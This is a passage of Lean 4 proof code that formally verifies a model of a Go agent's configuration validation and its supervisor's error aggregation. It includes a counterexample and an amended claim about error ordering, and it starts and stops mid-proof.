    fmt.Errorf "node %q has no services enabled: %w" id errNoActiveServices ∈ violations a ↔
      ∃ n, mapGet a.nodes id = some n ∧ n.enactmentsEnabled = false ∧ n.telemetryEnabled = false := by
  unfold violations
  constructor
  · intro h
    rcases List.mem_append.mp h with h1 | h1
    · rcases List.mem_append.mp h1 with h2 | h2
      · split at h2 <;> simp at h2
        cases h2
      · split at h2 <;> simp at h2
        cases h2
    · obtain ⟨kv, hkv, heq⟩ := List.mem_map.mp h1
      obtain ⟨hmem, hbad⟩ := List.mem_filter.mp hkv
      have hid : kv.2.id = id := (GoError.errorf.inj heq).2.1
      have hkey : kv.1 = id := (hm.2 kv hmem).symm.trans hid
      refine ⟨kv.2, mapGet_of_mem hm.1 ?_, ?_⟩
      · rw [← hkey]
        exact hmem
      · simpa [noServices] using hbad
  · rintro ⟨n, hget, he, ht⟩
    have hmem := mem_of_mapGet hget
    apply List.mem_append_right
    refine List.mem_map.mpr ⟨(id, n), List.mem_filter.mpr ⟨hmem, ?_⟩, ?_⟩
    · simp [noServices, he, ht]
    · have := hm.2 _ hmem
      simp only at this
      simp [noServicesError, this]

theorem unwrapJoin_Join_validate_aux {a : Agent} {visit : List (String × node)} :
    (a.validate visit = none) = (unwrapJoin (a.validate visit) = []) := by
  unfold Agent.validate
  simp only [unwrapJoin_Join, Join_eq_none_iff]

theorem validate_eq_none_iff (a : Agent) (visit : List (String × node)) :
    a.validate visit = none ↔
      a.clock ≠ none ∧ a.nodes ≠ [] ∧ ∀ kv ∈ visit, noServices kv.2 = false := by
  have h1 : a.validate visit = none ↔ unwrapJoin (a.validate visit) = [] := by
    rw [unwrapJoin_Join_validate_aux]
  rw [h1, unwrapJoin_validate]
  simp only [List.append_eq_nil, List.map_eq_nil_iff, List.filter_eq_nil_iff]
  constructor
  · rintro ⟨⟨hc, hn⟩, hv⟩
    refine ⟨?_, ?_, ?_⟩
    · intro h
      simp [h] at hc
    · intro h
      simp [h] at hn
    · intro kv hkv
      simpa using hv kv hkv
  · rintro ⟨hc, hn, hv⟩
    refine ⟨⟨by simp [hc], by simp [hn]⟩, ?_⟩
    intro kv hkv
    simp [hv kv hkv]

/-! ## Lemmas on the supervisor -/

theorem collect_eq_some {n : Nat} {l errs r : List error} (h : collect n errs l = some r) :
    errs.length < n ∧ r = errs ++ l.take (n - errs.length) ∧ r.length = n := by
  induction l generalizing errs with
  | nil => simp [collect] at h
  | cons e rest ih =>
    unfold collect at h
    simp only at h
    split at h
    · rename_i hlen
      have hlen2 : errs.length + 1 = n := by simpa using hlen
      have hr : r = errs ++ [e] := (Option.some.inj h).symm
      have h1 : n - errs.length = 1 := by omega
      refine ⟨by omega, ?_, ?_⟩
      · rw [h1, hr]
        simp
      · rw [hr]
        simpa using hlen2
    · obtain ⟨h1, h2, h3⟩ := ih h
      have hl : (errs ++ [e]).length = errs.length + 1 := by simp
      rw [hl] at h1 h2
      refine ⟨by omega, ?_, h3⟩
      have h4 : n - errs.length = (n - (errs.length + 1)) + 1 := by omega
      rw [h2, h4, List.take_succ_cons]
      simp

theorem collect_of_enough {n : Nat} {l errs : List error} (h1 : errs.length < n)
    (h2 : n ≤ errs.length + l.length) :
    collect n errs l = some (errs ++ l.take (n - errs.length)) := by
  induction l generalizing errs with
  | nil =>
    simp only [List.length_nil, Nat.add_zero] at h2
    omega
  | cons e rest ih =>
    unfold collect
    simp only
    have hl : (errs ++ [e]).length = errs.length + 1 := by simp
    by_cases hlen : errs.length + 1 = n
    · have h3 : n - errs.length = 1 := by omega
      simp [hlen, h3]
    · have hne : ¬ ((errs ++ [e]).length == n) = true := by
        rw [hl]
        simpa using hlen
      rw [if_neg hne, ih (by rw [hl]; omega) (by rw [hl]; simp only [List.length_cons] at h2; omega)]
      have h4 : n - errs.length = (n - (errs.length + 1)) + 1 := by omega
      rw [hl, h4, List.take_succ_cons]
      simp

theorem start_visited_ok (a : Agent) (nnc : Agent → node → Except GoError nodeController)
    (pre rest : List (String × node)) (st : StartState)
    (hok : ∀ kv ∈ pre, ∃ nc, nnc a kv.2 = .ok nc) :
    ∃ am, a.start nnc (pre ++ rest) st = a.start nnc rest
      { agentMap := am,
        launched := st.launched ++
          pre.map (fun kv => { nodeID := kv.2.id, result := runOf nnc a kv.2 }) } := by
  induction pre generalizing st with
  | nil => exact ⟨st.agentMap, by simp⟩
  | cons kv pre ih =>
    obtain ⟨k, n⟩ := kv
    obtain ⟨nc, hnc⟩ := hok (k, n) (List.mem_cons_self _ _)
    have hrest : ∀ kv ∈ pre, ∃ nc, nnc a kv.2 = .ok nc :=
      fun kv hkv => hok kv (List.mem_cons_of_mem _ hkv)
    simp only at hnc
    obtain ⟨am, ham⟩ := ih
      { agentMap := mapSet st.agentMap n.id nc.Stats,
        launched := st.launched ++ [{ nodeID := n.id, result := instrumented nc.run }] } hrest
    refine ⟨am, ?_⟩
    rw [List.cons_append, Agent.start, hnc]
    simp only
    rw [ham]
    simp [runOf, hnc]

theorem start_all_ok (a : Agent) (nnc : Agent → node → Except GoError nodeController)
    (visit : List (String × node)) (st : StartState)
    (hok : ∀ kv ∈ visit, ∃ nc, nnc a kv.2 = .ok nc) :
    (a.start nnc visit st).1 = none ∧
    (a.start nnc visit st).2.launched = st.launched ++
      visit.map (fun kv => { nodeID := kv.2.id, result := runOf nnc a kv.2 }) := by
  obtain ⟨am, ham⟩ := start_visited_ok a nnc visit [] st hok
  rw [List.append_nil] at ham
  rw [ham]
  simp [Agent.start]

theorem start_fails (a : Agent) (nnc : Agent → node → Except GoError nodeController)
    (pre post : List (String × node)) (k : String) (n : node) (err : GoError) (st : StartState)
    (hok : ∀ kv ∈ pre, ∃ nc, nnc a kv.2 = .ok nc) (hfail : nnc a n = .error err) :
    (a.start nnc (pre ++ (k, n) :: post) st).1 = some (fmt.Errorf "node %q: %w" n.id err) ∧
    (a.start nnc (pre ++ (k, n) :: post) st).2.launched = st.launched ++
      pre.map (fun kv => { nodeID := kv.2.id, result := runOf nnc a kv.2 }) := by
  obtain ⟨am, ham⟩ := start_visited_ok a nnc pre ((k, n) :: post) st hok
  rw [ham]
  simp [Agent.start, hfail]

theorem start_error (a : Agent) (nnc : Agent → node → Except GoError nodeController)
    (visit : List (String × node)) (st : StartState) (e : GoError)
    (h : (a.start nnc visit st).1 = some e) :
    ∃ kv ∈ visit, ∃ err, nnc a kv.2 = .error err ∧ e = fmt.Errorf "node %q: %w" kv.2.id err := by
  induction visit generalizing st with
  | nil => simp [Agent.start] at h
  | cons kv rest ih =>
    obtain ⟨k, n⟩ := kv
    unfold Agent.start at h
    cases hn : nnc a n with
    | error err =>
      rw [hn] at h
      simp only at h
      exact ⟨(k, n), List.mem_cons_self _ _, err, hn, (Option.some.inj h).symm⟩
    | ok nc =>
      rw [hn] at h
      simp only at h
      obtain ⟨kv, hkv, err, h1, h2⟩ := ih _ h
      exact ⟨kv, List.mem_cons_of_mem _ hkv, err, h1, h2⟩

theorem filterMap_eq_map_of_forall {α β : Type} (f : α → Option β) (g : α → β) (l : List α)
    (h : ∀ x ∈ l, f x = some (g x)) : l.filterMap f = l.map g := by
  induction l with
  | nil => rfl
  | cons x xs ih =>
    rw [List.filterMap_cons, h x (List.mem_cons_self _ _),
      ih (fun y hy => h y (List.mem_cons_of_mem _ hy))]
    rfl

theorem sent_all_deliver (a : Agent) (nnc : Agent → node → Except GoError nodeController)
    (visit : List (String × node)) (arrival : List String) (results : String → error)
    (hwf : mapWF a.nodes) (hvisit : visit.Perm a.nodes)
    (hctor : ∀ kv ∈ a.nodes, ∃ nc, nnc a kv.2 = .ok nc ∧ nc.run = some (results kv.1))
    (harr : arrival.Perm (a.nodes.map Prod.fst)) :
    sent (visit.map (fun kv => { nodeID := kv.2.id, result := runOf nnc a kv.2 })) arrival
      = arrival.map results := by
  unfold sent
  apply filterMap_eq_map_of_forall
  intro id hid
  have hid2 : id ∈ a.nodes.map Prod.fst := harr.mem_iff.mp hid
  obtain ⟨kv0, hkv0, hfst⟩ := List.mem_map.mp hid2
  have hex : ∃ t ∈ visit.map (fun kv : String × node =>
      ({ nodeID := kv.2.id, result := runOf nnc a kv.2 } : Task)), (t.nodeID == id) = true := by
    refine ⟨_, List.mem_map_of_mem _ (hvisit.mem_iff.mpr hkv0), ?_⟩
    simp [hwf.2 kv0 hkv0, hfst]
  cases hf : (visit.map (fun kv : String × node =>
      ({ nodeID := kv.2.id, result := runOf nnc a kv.2 } : Task))).find?
      (fun t => t.nodeID == id) with
  | none =>
    rw [List.find?_eq_none] at hf
    obtain ⟨t, ht, htid⟩ := hex
    exact absurd htid (hf t ht)
  | some t =>
    have htid := List.find?_some hf
    have hmem := List.mem_of_find?_eq_some hf
    obtain ⟨kv, hkv, rfl⟩ := List.mem_map.mp hmem
    have hkv2 : kv ∈ a.nodes := hvisit.mem_iff.mp hkv
    obtain ⟨nc, hnc, hrun⟩ := hctor kv hkv2
    have hkey : kv.1 = id := by
      have h1 : kv.2.id = id := by simpa using htid
      exact (hwf.2 kv hkv2).symm.trans h1
    simp [runOf, hnc, instrumented, hrun, hkey]

theorem Run_all_deliver (a : Agent) (env : RunEnv) (statsMap : StatsMap)
    (results : String → error) (hwf : mapWF a.nodes) (hne : a.nodes ≠ [])
    (hvisit : env.visit.Perm a.nodes)
    (hctor : ∀ kv ∈ a.nodes, ∃ nc,
      env.newNodeController a kv.2 = .ok nc ∧ nc.run = some (results kv.1))
    (harr : env.arrival.Perm (a.nodes.map Prod.fst)) :
    (a.Run env statsMap).outcome = .returned (errors.Join (env.arrival.map results)) ∧
    (a.Run env statsMap).launched.map Task.nodeID = env.visit.map (fun kv => kv.2.id) := by
  have hok : ∀ kv ∈ env.visit, ∃ nc, env.newNodeController a kv.2 = .ok nc := by
    intro kv hkv
    obtain ⟨nc, hnc, _⟩ := hctor kv (hvisit.mem_iff.mp hkv)
    exact ⟨nc, hnc⟩
  obtain ⟨h1, h2⟩ := start_all_ok a env.newNodeController env.visit
    { agentMap := [], launched := [] } hok
  simp only [List.nil_append] at h2
  have hsent := sent_all_deliver a env.newNodeController env.visit env.arrival results hwf hvisit
    hctor harr
  have hlen : (env.arrival.map results).length = a.nodes.length := by
    rw [List.length_map, harr.length_eq, List.length_map]
  have hpos : 0 < a.nodes.length := List.length_pos.mpr hne
  have hcollect : collect a.nodes.length [] (env.arrival.map results)
      = some (env.arrival.map results) := by
    rw [collect_of_enough (by simpa using hpos) (by simp [hlen])]
    simp [← hlen]
  unfold Agent.Run
  simp only [h1, h2, hsent, hcollect, List.map_map]
  exact ⟨trivial, rfl⟩

theorem Run_launched (a : Agent) (env : RunEnv) (statsMap : StatsMap) :
    (a.Run env statsMap).launched
      = (a.start env.newNodeController env.visit { agentMap := [], launched := [] }).2.launched := by
  unfold Agent.Run
  simp only
  split
  · rfl
  · split <;> rfl

theorem Run_returned_cases (a : Agent) (env : RunEnv) (statsMap : StatsMap) (err : error)
    (h : (a.Run env statsMap).outcome = .returned err) :
    ((a.start env.newNodeController env.visit { agentMap := [], launched := [] }).1 = err ∧
      err ≠ none) ∨
    ((a.start env.newNodeController env.visit { agentMap := [], launched := [] }).1 = none ∧
      ∃ errs, collect a.nodes.length []
          (sent (a.start env.newNodeController env.visit
            { agentMap := [], launched := [] }).2.launched env.arrival) = some errs ∧
        err = errors.Join errs) := by
  unfold Agent.Run at h
  simp only at h
  split at h
  · rename_i e he
    left
    have : some e = err := Outcome.returned.inj h
    rw [he, this]
    exact ⟨rfl, by rw [← this]; simp⟩
  · rename_i he
    right
    refine ⟨he, ?_⟩
    split at h
    · rename_i errs hc
      exact ⟨errs, hc, (Outcome.returned.inj h).symm⟩
    · cases h

theorem Run_returned_statsMap (a : Agent) (env : RunEnv) (statsMap : StatsMap) (err : error)
    (h : (a.Run env statsMap).outcome = .returned err) :
    ∃ am, (a.Run env statsMap).statsMap
      = mapDelete (mapSet (mapSet statsMap env.statKey []) env.statKey am) env.statKey := by
  unfold Agent.Run at h ⊢
  simp only at h ⊢
  split
  · exact ⟨_, rfl⟩
  · rename_i he
    rw [he] at h
    simp only at h
    split
    · exact ⟨_, rfl⟩
    · rename_i hc
      rw [hc] at h
      cases h

theorem sent_mem (launched : List Task) (arrival : List String) (r : error)
    (h : r ∈ sent launched arrival) : ∃ t ∈ launched, t.result = some r := by
  unfold sent at h
  obtain ⟨id, _, hid⟩ := List.mem_filterMap.mp h
  cases hf : launched.find? (fun t => t.nodeID == id) with
  | none => simp [hf] at hid
  | some t =>
    rw [hf] at hid
    exact ⟨t, List.mem_of_find?_eq_some hf, hid⟩

/-! ## Lemmas on option application -/

theorem applyLoop_clock (opts : List AgentOption) (a : Agent) :
    (opts.foldl (fun a opt => opt.apply a) a).clock = (lastClock opts).getD a.clock := by
  induction opts generalizing a with
  | nil => rfl
  | cons opt rest ih =>
    rw [List.foldl_cons, ih]
    cases hl : lastClock rest with
    | some c => simp [lastClock, hl]
    | none => cases opt <;> simp [lastClock, hl, AgentOption.apply]

theorem applyLoop_nodes (opts : List AgentOption) (a : Agent) (id : String) :
    mapGet (opts.foldl (fun a opt => opt.apply a) a).nodes id =
      match lastNodeOptions id opts with
      | some o => some (buildNode id o)
      | none => mapGet a.nodes id := by
  induction opts generalizing a with
  | nil => rfl
  | cons opt rest ih =>
    rw [List.foldl_cons, ih]
    cases hl : lastNodeOptions id rest with
    | some o => simp [lastNodeOptions, hl]
    | none =>
      cases opt with
      | WithClock c => simp [lastNodeOptions, hl, AgentOption.apply]
      | WithNode id' o =>
        by_cases hid : id' = id
        · subst hid
          simp [lastNodeOptions, hl, AgentOption.apply, mapGet_mapSet_same]
        · have hne : id ≠ id' := fun h => hid h.symm
          simp [lastNodeOptions, hl, AgentOption.apply, hid, mapGet_mapSet_other _ _ _ _ hne]

theorem buildLoop_enactment (nopts : List NodeOption) (n : node) :
    enactmentFields (nopts.foldl (fun n f => f.apply n) n) =
      match lastEnactment nopts with
      | some (endpoint, d, dialOpts) => (true, endpoint, d, dialOpts)
      | none => enactmentFields n := by
  induction nopts generalizing n with
  | nil => rfl
  | cons f rest ih =>
    rw [List.foldl_cons, ih]
    cases hl : lastEnactment rest with
    | some x => simp [lastEnactment, hl]
    | none => cases f <;> simp [lastEnactment, hl, NodeOption.apply, enactmentFields, telemetryFields]

theorem buildLoop_telemetry (nopts : List NodeOption) (n : node) :
    telemetryFields (nopts.foldl (fun n f => f.apply n) n) =
      match lastTelemetry nopts with
      | some (endpoint, d, dialOpts) => (true, endpoint, d, dialOpts)
      | none => telemetryFields n := by
  induction nopts generalizing n with
  | nil => rfl
  | cons f rest ih =>
    rw [List.foldl_cons, ih]
    cases hl : lastTelemetry rest with
    | some x => simp [lastTelemetry, hl]
    | none => cases f <;> simp [lastTelemetry, hl, NodeOption.apply, enactmentFields, telemetryFields]

theorem buildLoop_priority (nopts : List NodeOption) (n : node) :
    (nopts.foldl (fun n f => f.apply n) n).priority = n.priority := by
  induction nopts generalizing n with
  | nil => rfl
  | cons f rest ih =>
    rw [List.foldl_cons, ih]
    cases f <;> rfl

/-! ## Claims on the configuration builder -/

/-- C1: for every list of options and every order in which `validate` visits
the node map, the error `NewAgent` returns is the join of its parts, and the
parts are exactly the violations of the built agent, each once: `errNoClock`
if and only if the clock is nil, `errNoNodes` if and only if the node map is
empty, and for every id the error naming that id and wrapping
`errNoActiveServices` if and only if the map holds a node under that id with
neither service enabled; a configuration with k such nodes yields k such
errors. -/
theorem C1_validate_reports_all_violations (opts : List AgentOption)
    (visit : List (String × node)) (hvisit : visit.Perm (applyOptions opts).nodes) :
    (NewAgent opts visit).2 = errors.Join ((unwrapJoin (NewAgent opts visit).2).map some) ∧
    (unwrapJoin (NewAgent opts visit).2).Perm (violations (NewAgent opts visit).1) ∧
    (unwrapJoin (NewAgent opts visit).2).Nodup ∧
    (errNoClock ∈ unwrapJoin (NewAgent opts visit).2 ↔ (NewAgent opts visit).1.clock = none) ∧
    (errNoNodes ∈ unwrapJoin (NewAgent opts visit).2 ↔ (NewAgent opts visit).1.nodes = []) ∧
    (∀ id : String,
      fmt.Errorf "node %q has no services enabled: %w" id errNoActiveServices
          ∈ unwrapJoin (NewAgent opts visit).2 ↔
        ∃ n, mapGet (NewAgent opts visit).1.nodes id = some n ∧
          n.enactmentsEnabled = false ∧ n.telemetryEnabled = false) ∧
    (∀ e ∈ unwrapJoin (NewAgent opts visit).2, e = errNoClock ∨ e = errNoNodes ∨
      ∃ id, e = fmt.Errorf "node %q has no services enabled: %w" id errNoActiveServices ∧
        e.Unwrap = some errNoActiveServices) ∧
    (unwrapJoin (NewAgent opts visit).2).length =
      (if (NewAgent opts visit).1.clock = none then 1 else 0) +
      (if (NewAgent opts visit).1.nodes = [] then 1 else 0) +
      ((NewAgent opts visit).1.nodes.filter
        (fun kv => !kv.2.enactmentsEnabled && !kv.2.telemetryEnabled)).length := by
  have hwf := applyOptions_WF opts
  have hperm := unwrapJoin_validate_perm (applyOptions opts) visit hvisit
  show (applyOptions opts).validate visit = _ ∧ (unwrapJoin ((applyOptions opts).validate visit)).Perm
      (violations (applyOptions opts)) ∧ _
  refine ⟨?_, hperm, ?_, ?_, ?_, ?_, ?_, ?_⟩
  · exact Join_eq_Join_unwrap _
  · exact hperm.nodup_iff.mpr (violations_nodup hwf)
  · show errNoClock ∈ unwrapJoin ((applyOptions opts).validate visit) ↔ (applyOptions opts).clock = none
    rw [hperm.mem_iff]
    unfold violations
    constructor
    · intro h
      by_contra hc
      simp only [hc, if_false, List.nil_append, List.mem_append] at h
      rcases h with h | h
      · split at h <;> simp at h
        exact errNoClock_ne_errNoNodes h
      · obtain ⟨kv, _, heq⟩ := List.mem_map.mp h
        exact noServicesError_ne_errNoClock _ heq
    · intro h
      simp [h]
  · show errNoNodes ∈ unwrapJoin ((applyOptions opts).validate visit) ↔ (applyOptions opts).nodes = []
    rw [hperm.mem_iff]
    unfold violations
    constructor
    · intro h
      by_contra hc
      simp only [hc, if_false, List.append_nil, List.mem_append] at h
      rcases h with h | h
      · split at h <;> simp at h
        exact errNoClock_ne_errNoNodes h.symm
      · obtain ⟨kv, _, heq⟩ := List.mem_map.mp h
        exact noServicesError_ne_errNoNodes _ heq
    · intro h
      simp [h]
  · intro id
    show _ ∈ unwrapJoin ((applyOptions opts).validate visit) ↔ _
    rw [hperm.mem_iff]
    exact mem_violations_noServices hwf id
  · intro e he
    have he2 : e ∈ violations (applyOptions opts) := hperm.mem_iff.mp he
    unfold violations at he2
    rcases List.mem_append.mp he2 with h1 | h1
    · rcases List.mem_append.mp h1 with h2 | h2
      · split at h2 <;> simp at h2
        exact Or.inl h2
      · split at h2 <;> simp at h2
        exact Or.inr (Or.inl h2)
    · obtain ⟨kv, _, heq⟩ := List.mem_map.mp h1
      subst heq
      exact Or.inr (Or.inr ⟨kv.2.id, rfl, rfl⟩)
  · show (unwrapJoin ((applyOptions opts).validate visit)).length = _
    rw [hperm.length_eq]
    unfold violations
    simp only [List.length_append, List.length_map]
    have hf : (fun kv : String × node => noServices kv.2)
        = (fun kv => !kv.2.enactmentsEnabled && !kv.2.telemetryEnabled) := rfl
    have hA : (NewAgent opts visit).1 = applyOptions opts := rfl
    rw [hf, hA]
    by_cases hc : (applyOptions opts).clock = none <;>
      by_cases hn : (applyOptions opts).nodes = [] <;> simp [hc, hn]

/-- C1, at a concrete input: two nodes without services and no clock give
three errors. -/
theorem C1_validate_reports_all_violations_witness :
    (unwrapJoin (NewAgent [AgentOption.WithNode "a" [], AgentOption.WithNode "b" []]
      [("b", buildNode "b" []), ("a", buildNode "a" [])]).2).length = 3 :=
  (C1_validate_reports_all_violations
      [AgentOption.WithNode "a" [], AgentOption.WithNode "b" []]
      [("b", buildNode "b" []), ("a", buildNode "a" [])]
      (List.Perm.swap _ _ [])).2.2.2.2.2.2.2.trans (by decide)

/-- C2: for every list of options and every order in which `validate` visits
the node map, `NewAgent` returns a nil error if and only if the built agent
has a non-nil clock, a non-empty node map, and every node of the map has the
enactment or the telemetry service enabled. -/
theorem C2_nil_error_iff_valid (opts : List AgentOption) (visit : List (String × node))
    (hvisit : visit.Perm (applyOptions opts).nodes) :
    (NewAgent opts visit).2 = none ↔
      (NewAgent opts visit).1.clock ≠ none ∧ (NewAgent opts visit).1.nodes ≠ [] ∧
      ∀ kv ∈ (NewAgent opts visit).1.nodes,
        kv.2.enactmentsEnabled = true ∨ kv.2.telemetryEnabled = true := by
  show (applyOptions opts).validate visit = none ↔
    (applyOptions opts).clock ≠ none ∧ (applyOptions opts).nodes ≠ [] ∧
      ∀ kv ∈ (applyOptions opts).nodes,
        kv.2.enactmentsEnabled = true ∨ kv.2.telemetryEnabled = true
  rw [validate_eq_none_iff]
  have hiff : (∀ kv ∈ visit, noServices kv.2 = false) ↔
      ∀ kv ∈ (applyOptions opts).nodes,
        kv.2.enactmentsEnabled = true ∨ kv.2.telemetryEnabled = true := by
    constructor
    · intro h kv hkv
      have := h kv (hvisit.mem_iff.mpr hkv)
      unfold noServices at this
      cases he : kv.2.enactmentsEnabled <;> cases ht : kv.2.telemetryEnabled <;> simp_all
    · intro h kv hkv
      have := h kv (hvisit.mem_iff.mp hkv)
      unfold noServices
      rcases this with h1 | h1 <;> simp [h1]
  rw [hiff]

/-- C2, at a concrete input: a clock and one node with the telemetry service
build without error. -/
theorem C2_nil_error_iff_valid_witness :
    (NewAgent [WithRealClock,
        AgentOption.WithNode "beta" [NodeOption.WithTelemetryDriver "t:1" none []]]
      [("beta", buildNode "beta" [NodeOption.WithTelemetryDriver "t:1" none []])]).2 = none :=
  (C2_nil_error_iff_valid
    [WithRealClock, AgentOption.WithNode "beta" [NodeOption.WithTelemetryDriver "t:1" none []]]
    [("beta", buildNode "beta" [NodeOption.WithTelemetryDriver "t:1" none []])]
    (List.Perm.refl _)).mpr (by decide)

/-! ## Claims on the supervisor -/

/-- C3: for every valid configuration (well-formed node map, `validate`
returns nil) whose controllers are all constructed and whose tasks each
deliver one terminal result `results id`, in any visiting order and any
arrival order, `Run` returns; it returns nil if and only if every terminal
result is nil; and the returned error decomposes to exactly the non-nil
terminal results, nothing coming from a node that ended cleanly. -/
theorem C3_run_returns_exactly_the_failures (a : Agent) (env : RunEnv) (statsMap : StatsMap)
    (results : String → error) (hwf : mapWF a.nodes) (hvalid : a.validate a.nodes = none)
    (hvisit : env.visit.Perm a.nodes)
    (hctor : ∀ kv ∈ a.nodes, ∃ nc,
      env.newNodeController a kv.2 = .ok nc ∧ nc.run = some (results kv.1))
    (harr : env.arrival.Perm (a.nodes.map Prod.fst)) :
    ∃ err, (a.Run env statsMap).outcome = .returned err ∧
      (err = none ↔ ∀ kv ∈ a.nodes, results kv.1 = none) ∧
      (unwrapJoin err).Perm ((a.nodes.map Prod.fst).filterMap results) ∧
      unwrapJoin err = env.arrival.filterMap results := by
  have hne : a.nodes ≠ [] := ((validate_eq_none_iff a a.nodes).mp hvalid).2.1
  refine ⟨_, (Run_all_deliver a env statsMap results hwf hne hvisit hctor harr).1, ?_, ?_, ?_⟩
  · rw [Join_eq_none_iff, List.filterMap_map, List.filterMap_eq_nil_iff]
    constructor
    · intro h kv hkv
      exact h kv.1 (harr.mem_iff.mpr (List.mem_map_of_mem _ hkv))
    · intro h id hid
      obtain ⟨kv, hkv, rfl⟩ := List.mem_map.mp (harr.mem_iff.mp hid)
      exact h kv hkv
  · rw [unwrapJoin_Join, List.filterMap_map]
    exact harr.filterMap _
  · rw [unwrapJoin_Join, List.filterMap_map]
    rfl

/-- C3, at a concrete input: "alpha" ends cleanly and "beta" fails, "beta"
arriving first; `Run` returns the join of the failure of "beta" alone. -/
theorem C3_run_returns_exactly_the_failures_witness :
    ∃ err, (twoNodeAgent.Run
        { statKey := "0xc000012345", newNodeController := controllerEnding betaFails,
          visit := twoNodeAgent.nodes, arrival := ["beta", "alpha"] } []).outcome
        = .returned err ∧
      (err = none ↔ ∀ kv ∈ twoNodeAgent.nodes, betaFails kv.1 = none) ∧
      (unwrapJoin err).Perm ((twoNodeAgent.nodes.map Prod.fst).filterMap betaFails) ∧
      unwrapJoin err = ["beta", "alpha"].filterMap betaFails :=
  C3_run_returns_exactly_the_failures twoNodeAgent
    { statKey := "0xc000012345", newNodeController := controllerEnding betaFails,
      visit := twoNodeAgent.nodes, arrival := ["beta", "alpha"] } [] betaFails
    (applyOptions_WF twoNodeOptions) rfl (List.Perm.refl _)
    (fun kv hkv => ⟨_, rfl, by
      show some (betaFails kv.2.id) = some (betaFails kv.1)
      rw [(applyOptions_WF twoNodeOptions).2 kv hkv]⟩)
    (List.Perm.swap _ _ [])

/-- C9 as stated fails: with two failing nodes, the arrival orders
"alpha", "beta" and "beta", "alpha" make `Run` return two different errors,
whose parts come in the two arrival orders. -/
theorem C9_counterexample_arrival_order_is_visible :
    (twoNodeAgent.Run
        { statKey := "0xc000012345", newNodeController := controllerEnding allFail,
          visit := twoNodeAgent.nodes, arrival := ["alpha", "beta"] } []).outcome
      = .returned (some (GoError.join [GoError.new "alpha", GoError.new "beta"])) ∧
    (twoNodeAgent.Run
        { statKey := "0xc000012345", newNodeController := controllerEnding allFail,
          visit := twoNodeAgent.nodes, arrival := ["beta", "alpha"] } []).outcome
      = .returned (some (GoError.join [GoError.new "beta", GoError.new "alpha"])) ∧
    (twoNodeAgent.Run
        { statKey := "0xc000012345", newNodeController := controllerEnding allFail,
          visit := twoNodeAgent.nodes, arrival := ["alpha", "beta"] } []).outcome
      ≠ (twoNodeAgent.Run
        { statKey := "0xc000012345", newNodeController := controllerEnding allFail,
          visit := twoNodeAgent.nodes, arrival := ["beta", "alpha"] } []).outcome := by
  refine ⟨rfl, rfl, ?_⟩
  intro h
  have h1 : Outcome.returned (some (GoError.join [GoError.new "alpha", GoError.new "beta"]))
      = Outcome.returned (some (GoError.join [GoError.new "beta", GoError.new "alpha"])) := h
  have h2 := GoError.new.inj
    (List.cons.inj (GoError.join.inj (Option.some.inj (Outcome.returned.inj h1)))).1
  revert h2
  decide

/-- C9, amended: for every valid configuration whose tasks each deliver one
terminal result, two runs that differ in the visiting order and in the
arrival order both return; each returned error is the join of the terminal
results in its own arrival order, so it decomposes to exactly the non-nil
terminal results, listed in that arrival order; hence the two errors have
the same parts up to order (the non-nil terminal results of the nodes, with
multiplicity), one is nil if and only if the other is, and that is the case
if and only if every terminal result is nil. -/
theorem C9_aggregate_equal_up_to_order (a : Agent) (statKey : String)
    (nnc : Agent → node → Except GoError nodeController) (visit₁ visit₂ : List (String × node))
    (arrival₁ arrival₂ : List String) (statsMap₁ statsMap₂ : StatsMap) (results : String → error)
    (hwf : mapWF a.nodes) (hvalid : a.validate a.nodes = none)
    (hvisit₁ : visit₁.Perm a.nodes) (hvisit₂ : visit₂.Perm a.nodes)
    (hctor : ∀ kv ∈ a.nodes, ∃ nc, nnc a kv.2 = .ok nc ∧ nc.run = some (results kv.1))
    (harr₁ : arrival₁.Perm (a.nodes.map Prod.fst))
    (harr₂ : arrival₂.Perm (a.nodes.map Prod.fst)) :
    ∃ err₁ err₂,
      (a.Run
        { statKey := statKey, newNodeController := nnc, visit := visit₁, arrival := arrival₁ }
        statsMap₁).outcome = .returned err₁ ∧
      (a.Run
        { statKey := statKey, newNodeController := nnc, visit := visit₂, arrival := arrival₂ }
        statsMap₂).outcome = .returned err₂ ∧
      (unwrapJoin err₁).Perm (unwrapJoin err₂) ∧ (err₁ = none ↔ err₂ = none) ∧
      err₁ = errors.Join (arrival₁.map results) ∧
      err₂ = errors.Join (arrival₂.map results) ∧
      unwrapJoin err₁ = arrival₁.filterMap results ∧
      unwrapJoin err₂ = arrival₂.filterMap results ∧
      (unwrapJoin err₁).Perm ((a.nodes.map Prod.fst).filterMap results) ∧
      (unwrapJoin err₂).Perm ((a.nodes.map Prod.fst).filterMap results) ∧
      (err₁ = none ↔ ∀ kv ∈ a.nodes, results kv.1 = none) := by
  have hne : a.nodes ≠ [] := ((validate_eq_none_iff a a.nodes).mp hvalid).2.1
  have hperm : (List.filterMap id (arrival₁.map results)).Perm
      (List.filterMap id (arrival₂.map results)) :=
    ((harr₁.trans harr₂.symm).map results).filterMap id
  refine ⟨_, _,
    (Run_all_deliver a
      { statKey := statKey, newNodeController := nnc, visit := visit₁, arrival := arrival₁ }
      statsMap₁ results hwf hne hvisit₁ hctor harr₁).1,
    (Run_all_deliver a
      { statKey := statKey, newNodeController := nnc, visit := visit₂, arrival := arrival₂ }
      statsMap₂ results hwf hne hvisit₂ hctor harr₂).1, ?_, ?_, rfl, rfl, ?_, ?_, ?_, ?_, ?_⟩
  · rw [unwrapJoin_Join, unwrapJoin_Join]
    exact hperm
  · rw [Join_eq_none_iff, Join_eq_none_iff]
    constructor
    · intro h
      rw [h] at hperm
      exact hperm.symm.eq_nil
    · intro h
      rw [h] at hperm
      exact hperm.eq_nil
  · rw [unwrapJoin_Join, List.filterMap_map]
    rfl
  · rw [unwrapJoin_Join, List.filterMap_map]
    rfl
  · rw [unwrapJoin_Join, List.filterMap_map]
    exact harr₁.filterMap _
  · rw [unwrapJoin_Join, List.filterMap_map]
    exact harr₂.filterMap _
  · rw [Join_eq_none_iff, List.filterMap_map, List.filterMap_eq_nil_iff]
    constructor
    · intro h kv hkv
      exact h kv.1 (harr₁.mem_iff.mpr (List.mem_map_of_mem _ hkv))
    · intro h id hid
      obtain ⟨kv, hkv, rfl⟩ := List.mem_map.mp (harr₁.mem_iff.mp hid)
      exact h kv hkv

/-- C9 amended, at a concrete input: the two arrival orders of the
counterexample give errors whose parts are the two failures, each listed in
its own arrival order, hence equal up to order. -/
theorem C9_aggregate_equal_up_to_order_witness :
    ∃ err₁ err₂,
      (twoNodeAgent.Run
        { statKey := "0xc000012345", newNodeController := controllerEnding allFail,
